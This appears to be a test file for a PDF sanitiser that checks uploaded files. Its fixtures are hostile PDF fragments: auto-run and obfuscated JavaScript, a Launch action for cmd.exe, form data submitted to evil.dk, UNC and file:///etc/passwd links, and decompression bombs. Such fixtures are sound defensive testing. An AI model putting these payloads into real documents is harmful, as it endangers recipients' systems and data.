/** Which PDFs are kept, and as what. Hostile ones are built byte by byte; harmless ones come from programs as people use them. */
import { deflateSync } from 'node:zlib';
import { PDFDocument } from '@cantoo/pdf-lib';
import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { readPdf, type PdfVerdict } from '#lib/platform/files/pdf-check.server.ts';
import { isHarmlessLink } from '#lib/platform/files/pdf-rules.ts';
import { drawnPdf, packedOf, pdfOf, streamOf } from '../../../../tests/support/pdf.ts';

const script = '<</S /JavaScript /JS (app.alert(1))>>';
/** Milliseconds for one that can be read: what a busy machine takes is not what is asked here. */
const patience = 50_000;
const verdictOf = async (bytes: Uint8Array, within = patience) => (await readPdf(bytes, within)).verdict;
const twice = (data: Buffer) => deflateSync(deflateSync(data));
const hex = (data: Buffer) => Buffer.from(`${data.toString('hex')}>`);

describe('a PDF that acts', () => {
	test.each<[string, Parameters<typeof pdfOf>[0]]>([
		['a script when it is opened', { catalog: `/OpenAction ${script}` }],
		['a script nothing refers to', { objects: [script] }],
		['a script behind an escape', { objects: ['<</S /J#61vaScript /J#53 (x)>>'] }],
		['a script after "( obj)" in a string', { objects: ['<</Title ( obj) /A <</S /JavaScript /JS (x)>>>>'] }],
		['a script behind 3,000 bytes of padding', { objects: [`<</Pad (${'x'.repeat(3000)}) /A ${script}>>`] }],
		['a packed script', { objects: [packedOf([script])] }],
		[
			'a script packed by two filters',
			{ objects: [packedOf([script], { filter: '[/FlateDecode /FlateDecode]', pack: twice })] },
		],
		['a script packed as hex', { objects: [packedOf([script], { filter: '/ASCIIHexDecode', pack: hex })] }],
		[
			'a packed script far from its own dictionary',
			{ objects: [packedOf([script], { dict: `/Pad (${'y'.repeat(4000)})` })] },
		],
		[
			'a script in the names',
			{ catalog: '/Names <</JavaScript <</Names [(a) 10 0 R]>>>>', objects: [script] },
		],
		['a script as a stream', { objects: [streamOf(Buffer.from('app.alert(1)')), '<</JS 10 0 R>>'] }],
		['a script when a page is shown', { page: `/AA <</O ${script}>>` }],
		[
			'a script after a harmless action',
			{ catalog: `/OpenAction <</S /GoTo /D [3 0 R /Fit] /Next [${script}]>>` },
		],
		['a program to start', { objects: ['<</S /Launch /F (cmd.exe)>>'] }],
		['another file by UNC', { objects: ['<</S /GoToR /F (\\\\\\\\evil\\\\share\\\\a.pdf)>>'] }],
		['a file inside it', { objects: ['<</S /GoToE>>'] }],
		['answers sent away', { objects: ['<</S /SubmitForm /F (https://evil.dk)>>'] }],
		['data brought in', { objects: ['<</S /ImportData /F (a.fdf)>>'] }],
		['an XFA form', { catalog: '/AcroForm <</Fields [] /XFA [(a) 10 0 R]>>', objects: ['<<>>'] }],
		['files inside', { catalog: '/Names <</EmbeddedFiles <</Names []>>>>' }],
		[
			'a file specification with content',
			{ objects: ['<</Type /Filespec /F (a.exe) /EF <</F 11 0 R>>>>', '<<>>'] },
		],
		['rich media', { objects: ['<</Subtype /RichMedia>>'] }],
		['a film', { objects: ['<</Subtype /Movie>>'] }],
		['a sound', { objects: ['<</S /Sound>>'] }],
		['a thing in three dimensions', { objects: ['<</Subtype /3D>>'] }],
		['a link to a script', { objects: ['<</S /URI /URI (java\\012script:alert\\(1\\))>>'] }],
		['a link to a file', { objects: ['<</S /URI /URI (file:///etc/passwd)>>'] }],
		['a link to a share', { objects: ['<</S /URI /URI (\\\\\\\\evil\\\\a)>>'] }],
		['an action nobody knows', { objects: ['<</Type /Action /S /Explode>>'] }],
		['an unknown action behind a reference', { page: '/AA <</O 10 0 R>>', objects: ['<</S /Explode>>'] }],
		[
			'a stream that lies in another file',
			{ objects: [streamOf(Buffer.from(''), '/F (\\\\\\\\evil\\\\a)')] },
		],
	])('%s', async (_name, parts) => expect(await verdictOf(pdfOf(parts))).toBe('active'));
});

describe('a PDF that is not understood, or may not be looked into', () => {
	const nested = (depth: number) => `${'['.repeat(depth)}${']'.repeat(depth)}`;
	test.each<[string, Uint8Array, PdfVerdict]>([
		['cut off', new Uint8Array(Buffer.from('%PDF-1.7\n1 0 obj')), 'unreadable'],
		['a page of HTML', new Uint8Array(Buffer.from('<html><script>alert(1)</script>%%EOF')), 'unreadable'],
		[
			'no pages',
			new Uint8Array(
				Buffer.from('%PDF-1.7\n1 0 obj\n<</Type /Catalog>>\nendobj\ntrailer <</Root 1 0 R>>\n%%EOF'),
			),
			'unreadable',
		],
		['an object that is none', pdfOf({ objects: ['<</A'] }), 'unreadable'],
		[
			'packed objects that do not open',
			pdfOf({ objects: [packedOf(['<<>>'], { pack: (data) => data })] }),
			'unreadable',
		],
		[
			'packed in an unknown way',
			pdfOf({ objects: [packedOf(['<<>>'], { filter: '/LZWDecode' })] }),
			'unreadable',
		],
		[
			'packed with parameters',
			pdfOf({ objects: [packedOf(['<<>>'], { dict: '/DecodeParms <</Predictor 12>>' })] }),
			'unreadable',
		],
		[
			'a stream longer than it says',
			pdfOf({ objects: [streamOf(Buffer.from('a'.repeat(99)), '', '11 0 R'), '5'] }),
			'unreadable',
		],
		[
			'locked by a password',
			pdfOf({ objects: ['<</Filter /Standard>>'], trailer: '/Encrypt 10 0 R' }),
			'locked',
		],
		['a bomb', pdfOf({ objects: [packedOf(['0'.repeat(40_000_000)])] }), 'unreadable'],
		[
			'a bomb in a bomb',
			pdfOf({
				objects: [
					packedOf(['0'.repeat(200_000_000)], { filter: '[/FlateDecode /FlateDecode]', pack: twice }),
				],
			}),
			'unreadable',
		],
		['nested a million deep', pdfOf({ objects: [nested(1_000_000)] }), 'unreadable'],
		['packed and nested a million deep', pdfOf({ objects: [packedOf([nested(1_000_000)])] }), 'unreadable'],
		[
			'pages that hold themselves',
			pdfOf({ catalog: '/Pages 10 0 R', objects: ['<</Type /Pages /Kids [10 0 R] /Count 1>>'] }),
			'unreadable',
		],
		[
			'ten million small things',
			pdfOf({ objects: [packedOf([`[${'<<>>'.repeat(7_500_000)}]`])] }),
			'unreadable',
		],
	])('%s', async (_name, content, verdict) => {
		// What cannot be understood may also take too long.
		const answer = await readPdf(content, verdict === 'unreadable' ? undefined : patience);
		expect(answer.verdict).toBe(verdict);
	});

	test('are not let in by the hundred: who finds too many waiting is told to come back', async () => {
		const verdicts = await Promise.all(Array.from({ length: 15 }, () => verdictOf(pdfOf({}))));
		expect(verdicts.filter((verdict) => verdict === 'busy')).toHaveLength(3);
		expect(await verdictOf(pdfOf({}))).toBe('fine');
	}, 60_000);

	test('that takes for ever is given up, and the site goes on meanwhile', async () => {
		const digits = pdfOf({ tail: '1'.repeat(3_000_000) });
		let turns = 0;
		const ticking = setInterval(() => turns++, 20);
		expect(await readPdf(digits, 1500)).toEqual({ verdict: 'unreadable' });
		clearInterval(ticking);
		expect(turns).toBeGreaterThan(2);
		expect(await verdictOf(pdfOf({}))).toBe('fine');
	});
});

describe('a PDF that is kept', () => {
	const kept = async (bytes: Uint8Array) => {
		const answer = await readPdf(bytes, patience);
		if (answer.verdict !== 'fine') throw new Error(answer.verdict);
		return answer.content;
	};

	test.each<[string, Parameters<typeof pdfOf>[0]]>([
		['plain objects', {}],
		['packed objects', { objects: [packedOf(['<</Type /Font>>', '[1 2 3]'])] }],
		['a word that only begins alike', { page: '/Resources <</Font <</LaunchPad 1>>>>' }],
		[
			'links to the web, a mailbox, a page',
			{
				page: '/Annots [<</Subtype /Link /A <</S /URI /URI (https://kk.dk/a:b)>>>> <</Subtype /Link /A <</S /URI /URI (mailto:a@kk.dk)>>>> <</Subtype /Link /A <</S /GoTo /D [3 0 R /Fit]>>>>]',
			},
		],
		[
			'a form to fill in',
			{
				catalog: '/AcroForm <</Fields [10 0 R] /DA (/Helv 0 Tf)>>',
				objects: ['<</FT /Tx /T (navn) /V (Aya) /Subtype /Widget /Rect [0 0 9 9]>>'],
			},
		],
		['structure with attributes and roles', { objects: ['<</Type /StructElem /S /P /A <</O /Layout>>>>'] }],
		['a length that stands elsewhere', { objects: [streamOf(Buffer.from('q Q'), '', '11 0 R'), '3'] }],
	])('%s', async (_name, parts) => {
		const content = await kept(pdfOf(parts));
		expect((await PDFDocument.load(content)).getPageCount()).toBe(1);
	});

	test('holds only what was looked at: what trails the file or hides in it is gone', async () => {
		const content = await kept(
			pdfOf({ tail: '<script>alert(1)</script>', objects: [packedOf(['<</Type /Font>>'])] }),
		);
		const text = Buffer.from(content).toString('latin1');
		expect(text.startsWith('%PDF-1.7')).toBe(true);
		expect(text).not.toContain('<script>');
		expect(text.trimEnd().endsWith('%%EOF')).toBe(true);
		expect(text.match(/%%EOF/g)).toHaveLength(1);
	});

	test('is the same however often it is handed in', async () => {
		const bytes = await drawnPdf({});
		expect(Buffer.from(await kept(bytes)).equals(Buffer.from(await kept(bytes)))).toBe(true);
	});

	test('locked by pdfkit', async () => {
		expect(await verdictOf(await drawnPdf({ userPassword: 'hemmelig' }))).toBe('locked');
	});

	test('as a text program packs it', async () => {
		const document = await PDFDocument.create();
		document.addPage().drawText('Referat');
		const field = document.getForm().createTextField('navn');
		field.addToPage(document.addPage());
		const content = await kept(await document.save({ useObjectStreams: true }));
		const again = await PDFDocument.load(content);
		expect(again.getPageCount()).toBe(2);
		expect(again.getForm().getFields()).toHaveLength(1);
	});

	test('every PDF that pdfkit makes', async () => {
		await fc.assert(
			fc.asyncProperty(
				fc.record({
					pdfVersion: fc.constantFrom('1.3', '1.4', '1.5', '1.6', '1.7'),
					compress: fc.boolean(),
					tagged: fc.boolean(),
					layout: fc.constantFrom('portrait', 'landscape'),
				}),
				fc.array(fc.string({ unit: 'binary', maxLength: 200 }), { minLength: 1, maxLength: 6 }),
				fc.boolean(),
				async (options, texts, link) => {
					const bytes = await drawnPdf(options, (document) => {
						texts.forEach((text, index) => {
							if (index > 0) document.addPage();
							document.text(text, link ? { link: 'https://kk.dk', underline: true } : {});
							document.outline.addItem(text);
						});
					});
					const before = await PDFDocument.load(bytes);
					const after = await PDFDocument.load(await kept(bytes));
					expect(after.getPageCount()).toBe(before.getPageCount());
				},
			),
			{ numRuns: 25, seed: 7 },
		);
	}, 60_000);
});

test.each<[string, boolean]>([
	['https://kk.dk', true],
	['HTTP://kk.dk', true],
	['mailto:a@kk.dk', true],
	['tel:+4533663366', true],
	['www.kk.dk/side', true],
	['javascript:alert(1)', false],
	['java\nscript:alert(1)', false],
	[' \u0001javascript:x', false],
	['file:///etc/passwd', false],
	['smb://a/b', false],
	['\\\\evil\\a', false],
	['//evil/a', false],
	['data:text/html,x', false],
])('a link to %j is harmless: %s', (address, expected) => expect(isHarmlessLink(address)).toBe(expected));
